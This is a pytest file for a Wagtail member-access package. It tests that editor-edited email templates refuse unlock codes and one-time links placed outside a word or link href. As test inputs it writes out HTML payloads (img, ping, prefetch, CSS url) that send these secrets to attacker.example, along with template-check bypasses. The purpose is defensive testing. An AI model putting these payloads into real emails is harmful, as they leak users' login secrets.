"""The code and the one-time links in editors' emails: printed only as a whole word or as a
link's entire href, refused on save elsewhere (each with its exact message) and not sent
when a rendered email still prints one elsewhere (docs/security.md#email-escaping)."""

from __future__ import annotations

import pytest
from django.core.exceptions import ValidationError

from wagtail_member_access import api, email_syntax, emails
from wagtail_member_access.email_kinds import KINDS
from wagtail_member_access.email_secrets import misplaced_in_html, misplaced_in_text
from wagtail_member_access.models import EmailTemplate

pytestmark = pytest.mark.django_db

CODE_SECRET = (
    "The placeholder {{ %s }} is a secret: it may stand only as a word of its own or as the "
    'entire address of a link (<a href="{{ %s }}">), not inside another address or attribute.'
)


def secret(name):
    return CODE_SECRET % (name, name)


def save(kind, part="html", **parts):
    source = {"subject": "Hello", "text": "Hello"} | parts
    with pytest.raises(ValidationError) as info:
        api.set_email_template(kind, **source)
    assert not EmailTemplate.objects.exists()
    return info.value.message_dict


@pytest.mark.parametrize(
    ("kind", "html", "name"),
    [
        (
            "unlock_code",
            '<img src="https://attacker.example/p.gif?c={{ code }}&e={{ email }}">',
            "code",
        ),
        ("unlock_link", '<img src="https://attacker.example/p.gif?l={{ link }}">', "link"),
        ("unlock_link", '<a href="https://attacker.example/?l={{ link }}">x</a>', "link"),
        ("unlock_link", '<a href="{{ link }}" ping="https://attacker.example/">x</a>', "link"),
        ("unlock_link", '<link rel="prefetch" href="{{ link }}">', "link"),
        ("unlock_code", '<a href="{{ code }}">x</a>', "code"),
        (
            "unlock_code",
            "<p style=\"background:url('https://a.example/{{ code }}')\">x</p>",
            "code",
        ),
        ("unlock_code", "<style>p{background:url(https://a.example/{{ code }})}</style>", "code"),
        (
            "unlock_code",
            "<!--[if mso]><v:image src=https://a.example/{{ code }}><![endif]-->",
            "code",
        ),
        ("unlock_code", "<img src=https://a.example/?c= {{ code }}>", "code"),
        ("unlock_code", "<p>https://attacker.example/?c={{ code }}</p>", "code"),
        ("unlock_code", "<p>{{ code }}.attacker.example</p>", "code"),
        (
            "access_ready",
            '{% if set_password_link %}<img src="https://a.example/{{ set_password_link }}">'
            "{% endif %}",
            "set_password_link",
        ),
        (
            "access_ready",
            '{% for page in pages %}<img src="https://a.example/{{ page.link }}">{% endfor %}',
            "page.link",
        ),
        ("invitation", '<img src="https://a.example/{{ link }}">', "link"),
        ("password_reset", '<img src="https://a.example/{{ link }}">', "link"),
        # a branch the examples do not take: every other value empty is rendered too
        (
            "unlock_code",
            '{% if not page_title %}<img src="https://a.example/{{ code }}">{% endif %}{{ code }}',
            "code",
        ),
    ],
)
def test_a_secret_outside_a_word_or_an_href_is_refused(kind, html, name):
    text = {"unlock_code": "{{ code }}", "access_ready": "Hi"}.get(kind, "{{ link }}")
    assert save(kind, text=text, html=html) == {"html": [secret(name)]}


def test_in_the_text_part_a_secret_inside_an_address_is_refused():
    assert save("unlock_code", text="https://attacker.example/?c={{ code }}") == {
        "text": [secret("code")]
    }
    assert save("unlock_code", subject="x{{ code }}", text="{{ code }}") == {
        "subject": [secret("code")]
    }


@pytest.mark.parametrize(
    "html",
    [
        '<p>Your code: <b>{{ code }}</b>.</p><p><a href="{{ link }}">Open</a></p>',
        '<p>({{ code }})</p><p><a href=" {{ link }} ">{{ link }}</a></p>',
        '<p>"{{ code }}", &lt;{{ link }}&gt;</p>',
    ],
)
def test_whole_words_and_link_hrefs_are_accepted(html):
    template = api.set_email_template(
        "unlock_code_or_link", subject="Code {{ code }}", text="{{ code }} {{ link }}", html=html
    )
    assert template.pk


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("{{ code|upper }}", "Write the placeholder {{ code }} on its own, without filters."),
        (
            "{{ code }}{{ page_title|default:code }}",
            "Write the placeholder {{ code }} on its own, without filters.",
        ),
        (
            '{{ code }}{% if code < "5" %}<img>{% endif %}',
            "The placeholder {{ code }} can only be tested with {% if code %}, not compared: "
            "it is a secret.",
        ),
        (
            '{{ code }}{% if "1" in code %}x{% endif %}',
            "The placeholder {{ code }} can only be tested with {% if code %}, not compared: "
            "it is a secret.",
        ),
        # the reviewed bypasses of the required placeholder
        (
            "{% comment %}{{ code }}{% endcomment %}",
            "The placeholder {{ code }} is required in this email.",
        ),
        (
            "{% if False %}{{ code }}{% endif %}",
            "The placeholder {{ code }} is required in this email.",
        ),
        (
            "{% for code in site_name %}{% endfor %}{{ code }}",
            "This email has no list to go through with {% for %}.",
        ),
        (
            "{% for c in\tsite_name %}{% endfor %}{{ code }}",
            "This email has no list to go through with {% for %}.",
        ),
        (
            "{% for c in\tsecret %}{% endfor %}{{ code }}",
            "This email has no list to go through with {% for %}.",
        ),
    ],
)
def test_refused_in_the_text_with_its_message(text, message):
    assert save("unlock_code", text=text) == {"text": [message]}


def test_a_tab_after_in_does_not_skip_the_sequence_check():
    message = "{% for %} can only go through a list: pages."
    assert save("access_ready", text="{% for p in\tsecret %}{% endfor %}") == {"text": [message]}


def test_a_loop_name_may_not_hide_a_placeholder():
    assert save("access_ready", text="{% for email in pages %}{% endfor %}") == {
        "text": ["{{ email }} is a placeholder: give the loop another name."]
    }


def test_nested_loops_are_refused():
    nested = "{% for a in email %}" * 8 + "x" + "{% endfor %}" * 8
    assert save("unlock_code", text="{{ code }}" + nested) == {
        "text": ["This email has no list to go through with {% for %}."]
    }
    pages = "{% for a in pages %}{% for b in pages %}x{% endfor %}{% endfor %}"
    assert save("access_ready", text=pages) == {
        "text": ["A {% for %} inside another {% for %} is not allowed in emails."]
    }


def test_a_template_too_long_is_refused():
    text = "{{ code }}" + "x" * email_syntax.MAX_LENGTH
    assert save("unlock_code", text=text) == {
        "text": ["This is too long: at most 50000 characters."]
    }


def test_secret_refusals_are_translated():
    from django.utils import translation

    with translation.override("de"):
        assert save("unlock_code", text="{{ code|upper }}") == {
            "text": ["Schreiben Sie den Platzhalter {{ code }} allein, ohne Filter."]
        }


# --- the check itself, and again when an email is sent --------------------------------------


def test_misplaced_in_text_and_html():
    assert misplaced_in_text("Code: 048213.", ["048213"]) == []
    assert misplaced_in_text("x?c=048213", ["048213"]) == ["048213"]
    link = "https://example.com/l/x/"
    assert misplaced_in_html(f'<a href="{link}">{link}</a>', [link]) == []
    assert misplaced_in_html(f'<a href="{link}" title="{link}">x</a>', [link]) == [link]
    assert misplaced_in_html(f"<p {link}=1>", [link]) == [link]


def test_an_email_that_prints_a_secret_where_it_leaks_is_not_sent(mailoutbox, caplog):
    # Saved directly (as a version saved before this check would be): never sent as written.
    template = EmailTemplate.objects.create(
        kind="unlock_code",
        subject="Code",
        text="{{ code }}",
        html='{% if email == "ana@example.com" %}<img src="https://a.example/{{ code }}">'
        "{% endif %}",
    )
    context = KINDS["unlock_code"].sample_context() | {"code": "731904"}
    assert emails.deliver("unlock_code", "ana@example.com", context)
    assert "a.example" not in mailoutbox[0].alternatives[0][0]
    assert "731904" in mailoutbox[0].body
    assert f"The editors' version {template.pk} of the unlock_code email prints a secret" in (
        caplog.text
    )
